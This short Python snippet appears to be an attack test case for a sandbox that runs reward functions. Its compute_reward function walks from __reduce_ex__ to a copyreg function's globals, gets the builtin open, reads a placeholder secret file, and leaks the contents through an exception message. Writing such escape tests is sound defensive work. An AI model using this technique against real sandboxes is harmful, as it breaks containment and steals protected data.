# attack: __reduce_ex__ gives a function of copyreg
# group: traversal
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    scope = x.__reduce_ex__(2)[0].__class__
    raise ValueError(().__reduce_ex__(2)[0].__globals__["__builtins__"]["open"]("@SECRET@").read())
